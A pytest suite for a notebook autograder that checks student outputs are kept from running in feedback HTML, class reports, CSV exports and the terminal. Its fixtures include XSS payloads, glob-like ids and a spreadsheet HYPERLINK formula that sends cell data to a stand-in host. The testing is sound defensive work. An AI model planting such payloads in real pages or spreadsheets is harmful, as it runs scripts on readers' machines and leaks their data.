"""Outputs treated as hostile when shown (issue 14, item 4), on both grading paths:

- feedback HTML and the class report run no student script (checked in Chromium: the payloads
  set ``window.pwned`` or open a dialog) and show the payload as text;
- every CSV we write (nbgrader export, Canvas, the report's) neutralizes formula-like cells;
- glob-like student ids (``a*``, ``[ab]x``) are refused with the reason, and the students whose
  folders they match (``abc``, ``ax``) get their own grades;
- what a kernel writes to its stderr (escape sequences included) never reaches the grader's
  terminal: it is kept, as printable text, in that student's record.
"""
import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from conftest import ASSIGNMENT, CORPUS, batch_exit_status, class_course, nbgrader
import hostile_content
import snippets as submissions
from labgrader.reports.class_report import write_report
from labgrader.reports.gradebook import cell_scores
from labgrader.reports.lms import write_canvas_csv

pytestmark = [pytest.mark.slow, pytest.mark.browser]  # gradings, feedback, Chromium

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
XSS = submissions.load(CORPUS / "hostile" / "xss_outputs.py")
STDERR = submissions.load(CORPUS / "hostile" / "stderr_escape_sequences.py")
UNTOUCHED = submissions.load(CORPUS / "wrong" / "untouched.py")
SOLVED = submissions.load(CORPUS / "correct" / "list_and_flatten.py")
ZERO = dict.fromkeys(XSS.expected, 0.0)
FULL = SOLVED.expected
# glob-like ids and the victims whose folders they match
GLOB_IDS = {"a*": UNTOUCHED, "abc": SOLVED, "[ab]x": UNTOUCHED, "ax": SOLVED}
# ids that attack whoever opens the report or a CSV
HOSTILE_IDS = ['<img src=x onerror=window.pwned=1>', '=HYPERLINK("evil.example?"&A1,"click")',
               "+1", "-2", "@SUM(1)"]
MARKDOWN_PAYLOAD = '<img src="x" onerror="window.pwned = 1"> MARKDOWN-CELL-PAYLOAD <script>window.pwned = 1</script>'
RAW_PAYLOAD = '<script>window.pwned = 1</script>RAW-CELL-PAYLOAD'
ENV = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")


def hand_in(course, student, snippet):
    release = course / "release" / ASSIGNMENT / submissions.NOTEBOOK
    submissions.write_submission(snippet, release, course / "submitted" / student / ASSIGNMENT)


def add_text_cells(course, student):
    """Cells the snippet format cannot express: a markdown and a raw cell of the student's own."""
    path = course / "submitted" / student / ASSIGNMENT / submissions.NOTEBOOK
    nb = nbformat.read(path, as_version=4)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell(MARKDOWN_PAYLOAD))
    nb.cells.insert(3, nbformat.v4.new_raw_cell(RAW_PAYLOAD))
    nbformat.write(nb, path)


def run(course, *argv, timeout=900):
    """A grading command as the instructor runs it; stdout and stderr as bytes (escape sequences included)."""
    return subprocess.run(list(argv), cwd=course, env=ENV, capture_output=True, timeout=timeout)


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    """Plain `nbgrader autograde` + `nbgrader generate_feedback` from the course root."""
    course = class_course(tmp_path_factory.mktemp("plain") / "course", [XSS, STDERR])
    add_text_cells(course, XSS.name)
    for student, snippet in GLOB_IDS.items():
        hand_in(course, student, snippet)
    graded = run(course, str(Path(sys.executable).parent / "nbgrader"), "autograde", ASSIGNMENT)
    nbgrader(course, "generate_feedback", ASSIGNMENT)
    return {"course": course, "run": graded, "scores": cell_scores(f"sqlite:///{course}/gradebook.db", ASSIGNMENT)}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """The batch command; the class report and the CSVs are written from its gradebook."""
    course = class_course(tmp_path_factory.mktemp("batch") / "course", [STDERR])
    for student, snippet in GLOB_IDS.items():
        hand_in(course, student, snippet)
    for student in HOSTILE_IDS:
        hand_in(course, student, UNTOUCHED)
    (course / "submitted" / HOSTILE_IDS[0] / ASSIGNMENT / submissions.NOTEBOOK).write_text("{not json")
    graded = run(course, sys.executable, "-m", "labgrader", "autograde", ASSIGNMENT)
    assert graded.returncode == batch_exit_status(course, ASSIGNMENT), graded.stdout[-3000:] + graded.stderr[-3000:]
    return {"course": course, "run": graded, "scores": cell_scores(f"sqlite:///{course}/gradebook.db", ASSIGNMENT)}


def open_in_chromium(path, text_of="body"):
    """Load ``path`` with the network cut; what ran (window.pwned, dialogs) and the visible text."""
    assert CHROMIUM, "Debian's chromium is needed (./course installs it)"
    from playwright.sync_api import sync_playwright
    dialogs = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--no-first-run"])
        page = browser.new_page()
        page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort())
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(Path(path).as_uri(), wait_until="load")
        page.wait_for_timeout(500)  # let onerror/onload handlers of failed images fire
        pwned = page.evaluate("() => window.pwned ?? window.__pwned")
        text = page.inner_text(text_of)
        headings = page.eval_on_selector_all("h1", "hs => hs.map(h => h.innerText)")
        browser.close()
    return {"pwned": pwned, "dialogs": dialogs, "text": text, "h1": headings}


# ------------------------------------------------------------------ feedback


def feedback_page(course, student):
    return course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"


def test_feedback_runs_no_student_script_and_shows_it_as_text(plain):
    seen = open_in_chromium(feedback_page(plain["course"], XSS.name))
    assert seen["pwned"] is None and seen["dialogs"] == [], seen
    # (a forged verdict keeps only its plain text: the autograded notebook holds no verdict HTML)
    for marker in ["XSS-HTML-PAYLOAD", "XSS-MARKDOWN-PAYLOAD", "XSS-STREAM-PAYLOAD",
                   "XSS-ERROR-PAYLOAD", "MARKDOWN-CELL-PAYLOAD", "RAW-CELL-PAYLOAD", "window.pwned = 1"]:
        assert marker in seen["text"], marker
    assert '<script>window.pwned = 1</script>XSS-STREAM-PAYLOAD' in seen["text"]  # the student sees what they printed
    assert plain["scores"][XSS.name] == XSS.expected


def test_the_instructors_text_is_still_rendered(plain):
    seen = open_in_chromium(feedback_page(plain["course"], XSS.name))
    assert any(h.startswith("Categorical Embeddings") for h in seen["h1"])  # the lab's own markdown stays markdown


def test_feedback_is_inert_on_its_own_and_the_check_can_fail(plain, tmp_path):
    """An autograded notebook that kept its raw outputs (graded before SanitizeAutograded, or
    without it): feedback's own step still makes it inert; nbgrader's feedback without it runs it."""
    course = tmp_path / "course"
    shutil.copytree(plain["course"], course)
    autograded = course / "autograded" / XSS.name / ASSIGNMENT / submissions.NOTEBOOK
    nb = nbformat.read(autograded, as_version=4)
    hostile_content.with_raw_outputs(autograded, next(i for i, c in enumerate(nb.cells) if "XSS-HTML-PAYLOAD" in c.source))
    nbgrader(course, "generate_feedback", ASSIGNMENT, "--force", "--student", XSS.name)
    seen = open_in_chromium(feedback_page(course, XSS.name))
    assert seen["pwned"] is None and seen["dialogs"] == [], seen
    for marker in hostile_content.MARKERS:
        assert marker in seen["text"], marker
    with open(course / "nbgrader_config.py", "a") as config:
        config.write("\nc.GenerateFeedback.preprocessors = [p for p in c.GenerateFeedback.preprocessors "
                     "if p.__name__ != 'SanitizeOutputs']\n")
    nbgrader(course, "generate_feedback", ASSIGNMENT, "--force", "--student", XSS.name)
    assert open_in_chromium(feedback_page(course, XSS.name))["pwned"] == 1


def test_the_autograded_notebook_keeps_no_active_output(plain):
    """What the formgrader and JupyterLab show the instructor (SanitizeAutograded)."""
    nb = nbformat.read(plain["course"] / "autograded" / XSS.name / ASSIGNMENT / submissions.NOTEBOOK, as_version=4)
    kinds = {k for c in nb.cells for o in c.get("outputs", []) for k in o.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg"}, kinds  # not even a (forged) verdict's HTML
    shown = json.dumps(nb.cells)
    for marker in ["XSS-HTML-PAYLOAD", "XSS-MARKDOWN-PAYLOAD", "MARKDOWN-CELL-PAYLOAD", "RAW-CELL-PAYLOAD"]:
        assert marker in shown, marker
    assert not any(c.cell_type == "raw" for c in nb.cells)


# ------------------------------------------------------------------ class report and CSVs


def test_the_class_report_shows_hostile_ids_as_text(batch):
    page, _ = write_report(batch["course"], ASSIGNMENT)
    seen = open_in_chromium(page)
    assert seen["pwned"] is None and seen["dialogs"] == []
    for student in HOSTILE_IDS:
        assert student in seen["text"]


def formula_like(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def assert_neutral(rows, id_column):
    """No cell a spreadsheet would evaluate, and every hostile id present (quoted) in ``id_column``."""
    assert not [cell for row in rows for cell in row if formula_like(cell)]
    ids = {row[id_column] for row in rows}
    for student in HOSTILE_IDS[1:]:
        assert "'" + student in ids


def test_nbgrader_export_neutralizes_formulas(batch, tmp_path):
    nbgrader(batch["course"], "export", "--to", str(tmp_path / "grades.csv"))
    rows = list(csv.reader(open(tmp_path / "grades.csv", newline="")))
    header, rows = rows[0], rows[1:]
    assert header[3] == "student_id" and {len(r) for r in rows} == {len(header)}  # commas and quotes stay in their cell
    assert_neutral(rows, 3)
    by_id = {r[3]: r for r in rows if r[0] == ASSIGNMENT}  # the course has a second lab, not handed in
    assert by_id["abc"][header.index("score")] == "8.0" and HOSTILE_IDS[0] in by_id


def test_canvas_and_report_csvs_neutralize_formulas(batch, tmp_path):
    course = batch["course"]
    canvas = write_canvas_csv(f"sqlite:///{course}/gradebook.db", ASSIGNMENT, tmp_path / "canvas.csv")
    rows = list(csv.reader(open(canvas, newline="")))[2:]
    assert_neutral(rows, 3)
    _, table = write_report(course, ASSIGNMENT, out_dir=tmp_path / "report")
    rows = list(csv.reader(open(table, newline="")))[1:]
    assert_neutral(rows, 0)


# ------------------------------------------------------------------ glob-like ids


def test_glob_ids_are_refused_and_their_matches_graded_plain(plain):
    scores, stderr = plain["scores"], plain["run"].stderr.decode("utf-8", "replace")
    assert scores["abc"] == FULL and scores["ax"] == FULL  # their own notebooks, graded once
    for student in ("a*", "[ab]x"):
        assert f"not graded: student id '{student}' contains glob characters" in stderr
        assert not (plain["course"] / "autograded" / student).exists()
        assert sum(scores.get(student, {}).values()) == 0


def test_glob_ids_are_refused_and_their_matches_graded_batch(batch):
    scores = batch["scores"]
    assert scores["abc"] == FULL and scores["ax"] == FULL
    results = {r["student"]: r for r in json.loads((batch["course"] / f"grading_report_{ASSIGNMENT}.json").read_text())["results"]}
    stdout = batch["run"].stdout.decode()
    for student in ("a*", "[ab]x"):
        assert not results[student]["ok"] and "glob characters" in results[student]["error"]
        assert f"  {student}: student id '{student}' contains glob characters" in stdout
        assert sum(scores[student].values()) == 0


# ------------------------------------------------------------------ kernel stderr


def kept_stderr(course, path, student):
    """What the grader kept of a student's kernel stderr: the autograded notebook's record (both
    paths), and the grading report's record (the batch)."""
    from labgrader.record import read_notebook_record
    notebook = nbformat.read(course / "autograded" / student / ASSIGNMENT / submissions.NOTEBOOK, as_version=4)
    kept = [read_notebook_record(notebook).stderr]
    if path == "batch":
        results = json.loads((course / f"grading_report_{ASSIGNMENT}.json").read_text())["results"]
        kept.append(next(r for r in results if r["student"] == student)["stderr"][ASSIGNMENT])
    return kept


@pytest.mark.parametrize("path", ["plain", "batch"])
def test_kernel_stderr_is_kept_with_its_student_and_never_printed(path, request):
    graded = request.getfixturevalue(path)
    output = graded["run"].stderr + graded["run"].stdout
    assert b"STDERR-ESCAPE-PAYLOAD" not in output and b"[kernel stderr]" not in output
    for control in (b"\x1b", b"\x9b", b"\x07"):
        at = output.find(control)
        assert at < 0, output[max(0, at - 300):at + 100]
    for text in kept_stderr(graded["course"], path, STDERR.name):
        assert "STDERR-ESCAPE-PAYLOAD" in text  # what the kernel wrote, as printable text
        assert not any(c in text for c in "\x1b\x9b\x07\r")
    assert graded["scores"][STDERR.name] == STDERR.expected
